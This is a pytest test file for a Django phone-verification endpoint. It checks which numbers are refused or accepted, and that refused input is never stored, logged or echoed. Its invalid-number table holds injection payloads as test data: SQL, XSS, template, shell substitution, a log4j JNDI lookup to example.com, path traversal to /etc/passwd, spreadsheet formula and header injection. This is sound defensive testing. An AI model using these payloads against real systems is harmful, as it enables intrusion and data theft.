"""Each number that is not allowed is refused with one text; nothing is stored."""

import phonenumbers
import pytest
from phonenumbers import PhoneNumberFormat, PhoneNumberType

from django_idenfy_phone.models import PhoneVerification
from support.constants import NUMBER
from support.steps import (
    MASKED_NUMBER,
    NOTHING_STORED,
    named_cases,
    post_start,
    sends_checks_and_rows,
    status_and_body,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("idenfy_sandbox")]

REFUSED_TEXT = (
    "Enter a mobile phone number with its country code, such as +37060012345."
)
NUMBER_NOT_SUPPORTED = (400, {"phone_number": [REFUSED_TEXT]})


@pytest.fixture
def all_regions(settings):
    settings.IDENFY_PHONE_REGIONS = phonenumbers.SUPPORTED_REGIONS


def example(region, number_type):
    number = phonenumbers.example_number_for_type(region, number_type)
    return phonenumbers.format_number(number, PhoneNumberFormat.E164)


INVALID_NUMBERS = {
    # Not a string, or an empty one
    "empty": "",
    "spaces": "   ",
    "integer": 37061234567,
    "float": 37061234567.0,
    "huge float": 1e300,
    "4,000 digits": int("9" * 4_000),
    "true": True,
    "false": False,
    "list": [NUMBER],
    "object": {"phone_number": NUMBER},
    "deep list": [[[[[[NUMBER]]]]]],
    # Without a country code
    "national": "61234567",
    "national with its trunk prefix": "861234567",
    "00 for +": "0037061234567",
    "00 with spaces": "00 370 612 34567",
    "011 for +": "01137061234567",
    # Other scripts and invisible characters
    "one Arabic-Indic digit": "+3706123456٧",
    "Persian and Arabic digits": "+٣٧٠۶۱۲۳۴۵۶۷",
    "two styles of digits": "+37061234𝟓𝟨𝟕",
    "full-width letters": "+3706123\uff21\uff22\uff23\uff24",
    "keycap": "+3706123456\u0037\ufe0f\u20e3",
    "line separator": "+37061234567\u2028",
    "Hangul filler": "+370\u316461234567",
    "only format marks": "\u200b\u200e\ufeff",
    "superscript": "+3706123456\u2077",
    "NUL": "+370\x0061234567",
    "NUL at the end": "+37061234567\0",
    "CR LF": "+37061234567\r\n",
    "line feed": "+37061234567\n",
    "header injection": "+37061234567\r\nX-Evil: 1",
    "tab": "+370\t61234567",
    "lone surrogate": "+37061234567\ud800",
    # More than a number
    "extension": "+37061234567;ext=5",
    "x5": "+37061234567x5",
    "ext. 5": "+37061234567 ext. 5",
    "#5": "+37061234567#5",
    ",5": "+37061234567,5",
    "~5": "+37061234567~5",
    "tel": "tel:+37061234567",
    "phone-context": "61234567;phone-context=+370",
    "tel with phone-context": "tel:61234567;phone-context=+370",
    "isub": "+37061234567;isub=5",
    "vanity letters": "+1 202 555 CALL",
    "two numbers": "+37061234567/+37061234568",
    "asterisk": "*31#+37061234567",
    "two plus signs": "++37061234567",
    "plus inside": "370+61234567",
    "plus alone": "+",
    # Numbers that do not exist
    "too short": "+3706123",
    "one digit": "+3",
    "one digit more": "+370612345678",
    "16 digits": "+3706123456789012",
    "300 characters": "+370" + "6" * 296,
    "300 brackets": "+370" + "(" * 288 + "61234567",
    "+999": "+99912345678",
    "+0": "+037061234567",
    "emergency": "112",
    "+emergency": "+112",
    "possible but invalid": "+447700900123",
    "only punctuation": "+(-.-)",
    # Injections
    "SQL": "+37061234567' OR '1'='1",
    "SQL comment": "+37061234567;--",
    "HTML": "<script>alert(1)</script>",
    "HTML around": "<b>+37061234567</b>",
    "template": "{{ 7*7 }}{% debug %}",
    "format": "%s%n%x{0.__class__}",
    "log4j": "${jndi:ldap://example.com/a}",
    "shell": "$(id)`id`;id|id",
    "path": "../../etc/passwd",
    "spreadsheet": "=cmd|'/C calc'!A0",
}


@pytest.mark.parametrize("number", **named_cases(INVALID_NUMBERS))
def test_invalid_number_is_refused(api, idenfy_sandbox, all_regions, number):
    refused = post_start(api, number=number)
    assert status_and_body(refused) == NUMBER_NOT_SUPPORTED
    assert sends_checks_and_rows(idenfy_sandbox) == NOTHING_STORED


@pytest.mark.parametrize("number", ["<script>alert(1)</script>", "'; DROP TABLE x"])
def test_refused_number_is_not_logged(api, caplog, number):
    caplog.set_level("DEBUG")
    post_start(api, number=number)
    assert number not in caplog.text


@pytest.mark.parametrize("accept", ["text/html", "application/json", "*/*"])
def test_markup_is_not_echoed_in_any_format(api, accept):
    number = "<script>alert(1)</script>"
    refused = post_start(api, number=number, HTTP_ACCEPT=accept)
    assert refused.status_code == 400
    assert b"alert(1)" not in refused.content


@pytest.mark.parametrize("national", ["61234567", "0 612 34567", "(0-612) 34567"])
def test_default_region_completes_a_national_number(api, settings, national):
    settings.PHONENUMBER_DEFAULT_REGION = "LT"
    assert post_start(api, number=national).status_code == 202
    assert PhoneVerification.objects.get().phone_number.as_e164 == NUMBER


@pytest.mark.parametrize(
    ("region", "number"),
    [
        ("LT", "0037061234567"),
        ("LT", "00 370 612 34567"),
        ("LT", "00-370-612-34567"),
        ("US", "011 370 612 34567"),
        ("JP", "010 370 612 34567"),
        ("AU", "0011 370 612 34567"),
    ],
)
def test_default_region_reads_its_own_international_prefix(
    api, settings, region, number
):
    settings.PHONENUMBER_DEFAULT_REGION = region
    assert post_start(api, number=number).status_code == 202
    assert PhoneVerification.objects.get().phone_number.as_e164 == NUMBER


@pytest.mark.parametrize(
    "number", ["01137061234567", "00037061234567", "00 1", "00", "0000", "112"]
)
def test_default_region_allows_no_other_numbers(api, settings, idenfy_sandbox, number):
    settings.PHONENUMBER_DEFAULT_REGION = "LT"
    refused = post_start(api, number=number)
    assert status_and_body(refused) == NUMBER_NOT_SUPPORTED
    assert sends_checks_and_rows(idenfy_sandbox) == NOTHING_STORED


PASTED = {
    "spaces inside": "+370 612 34567",
    "hyphens": "+370-612-34567",
    "brackets": "+370 (612) 34567",
    "country code in brackets": "(+370) 612 34567",
    "space after the plus": "+ 370 612 34567",
    "points": "+370.612.34567",
    "slash": "+370/612/34567",
    "space before": " +37061234567",
    "spaces around": "   +37061234567   ",
    "no-break space": "+370\xa0612\xa034567",
    "no-break space before": "\xa0+37061234567",
    "narrow no-break spaces": "+370\u202f612\u202f34567",
    "ideographic space": "+370\u300061234567",
    "hyphen": "+370\u2010612\u201034567",
    "no-break hyphen": "+370\u2011612\u201134567",
    "figure dash": "+370\u2012612\u201234567",
    "en dash": "+370\u2013612\u201334567",
    "em dash": "+370\u2014612\u201434567",
    "minus sign": "+370\u2212612\u221234567",
    "Japanese dash": "+370\u30fc612\u30fc34567",
    "full-width dash": "+370\uff0d612\uff0d34567",
    "contact of an iPhone": "\u202a+370 612 34567\u202c",
    "bidi marks": "\u202d+37061234567\u202c",
    "isolates": "\u2066+37061234567\u2069",
    "left-to-right mark": "\u200e+37061234567",
    "zero-width space": "+370\u200b61234567",
    "word joiner": "+370\u206061234567",
    "soft hyphen": "+370\xad61234567",
    "BOM": "\ufeff+37061234567",
    "mark, then space": "\u200e +37061234567 \u200f",
    "full-width plus": "\uff0b37061234567",
    "full-width number": "\uff0b３７０（６１２）３４５６７",
    "full-width digits after a prefix": "+370６１２３４５６７",
    "Arabic-Indic digits": "+٣٧٠٦١٢٣٤٥٦٧",
    "Persian digits": "+۳۷۰۶۱۲۳۴۵۶۷",
    "Devanagari digits": "+३७०६१२३४५६७",
    "Bengali digits": "+৩৭০৬১২৩৪৫৬৭",
    "Thai digits": "+๓๗๐๖๑๒๓๔๕๖๗",
    "Adlam digits": "+" + "".join(chr(0x1E950 + int(each)) for each in NUMBER[1:]),
    "bold digits": "+𝟑𝟕𝟎𝟔𝟏𝟐𝟑𝟒𝟓𝟔𝟕",
}


@pytest.mark.parametrize("number", **named_cases(PASTED))
def test_number_is_read_as_people_type_and_paste_it(api, number):
    started = post_start(api, number=number)
    assert started.status_code == 202
    assert started.json()["phone_number"] == MASKED_NUMBER
    assert PhoneVerification.objects.get().phone_number.as_e164 == NUMBER


COSTLY_NUMBERS = {
    "fixed line": example("LT", PhoneNumberType.FIXED_LINE),
    "premium rate": example("GB", PhoneNumberType.PREMIUM_RATE),
    "premium rate in the US": example("US", PhoneNumberType.PREMIUM_RATE),
    "shared cost": example("LT", PhoneNumberType.SHARED_COST),
    "toll free": example("US", PhoneNumberType.TOLL_FREE),
    "UAN": example("GB", PhoneNumberType.UAN),
    "pager": example("GB", PhoneNumberType.PAGER),
    "voicemail": example("CH", PhoneNumberType.VOICEMAIL),
    "personal": example("GB", PhoneNumberType.PERSONAL_NUMBER),
    "personal in the US": example("US", PhoneNumberType.PERSONAL_NUMBER),
    "VOIP": example("GB", PhoneNumberType.VOIP),
    "satellite +8816": "+881612345678",
} | {
    f"network +{code}": phonenumbers.format_number(
        phonenumbers.example_number_for_non_geo_entity(code), PhoneNumberFormat.E164
    )
    for code in sorted(phonenumbers.COUNTRY_CODES_FOR_NON_GEO_REGIONS)
}


@pytest.mark.parametrize("number", **named_cases(COSTLY_NUMBERS))
def test_costly_type_of_number_is_refused(api, idenfy_sandbox, all_regions, number):
    assert phonenumbers.is_valid_number(phonenumbers.parse(number))
    refused = post_start(api, number=number)
    assert status_and_body(refused) == NUMBER_NOT_SUPPORTED
    assert sends_checks_and_rows(idenfy_sandbox) == NOTHING_STORED


@pytest.mark.parametrize("number", ["+870301234567", "+881612345678", "+8823421234"])
def test_number_without_a_country_is_refused_with_all_regions_allowed(
    api, settings, idenfy_sandbox, number
):
    settings.IDENFY_PHONE_REGIONS = None
    refused = post_start(api, number=number)
    assert status_and_body(refused) == NUMBER_NOT_SUPPORTED
    assert sends_checks_and_rows(idenfy_sandbox) == NOTHING_STORED


REGIONS_NOT_LISTED = {
    "Jamaica for the US": ("+18762101234", ["US"]),
    "Canada for the US": (example("CA", PhoneNumberType.MOBILE), ["US"]),
    "Guernsey for Britain": ("+447911123456", ["GB"]),
    "Jersey for Britain": (example("JE", PhoneNumberType.MOBILE), ["GB"]),
    "Kazakhstan for Russia": (example("KZ", PhoneNumberType.MOBILE), ["RU"]),
    "Lithuania for Latvia": (NUMBER, ["LV", "EE"]),
    "nobody": (NUMBER, []),
}


@pytest.mark.parametrize(("number", "regions"), **named_cases(REGIONS_NOT_LISTED))
def test_region_that_is_not_listed_is_refused(
    api, settings, idenfy_sandbox, number, regions
):
    settings.IDENFY_PHONE_REGIONS = regions
    refused = post_start(api, number=number)
    assert status_and_body(refused) == NUMBER_NOT_SUPPORTED
    assert sends_checks_and_rows(idenfy_sandbox) == NOTHING_STORED


@pytest.mark.parametrize("region", ["JM", "CA", "GG", "JE", "KZ", "US", "LT"])
def test_region_that_is_listed_is_accepted(api, settings, region):
    settings.IDENFY_PHONE_REGIONS = [region]
    number = example(region, PhoneNumberType.MOBILE)
    assert post_start(api, number=number).status_code == 202
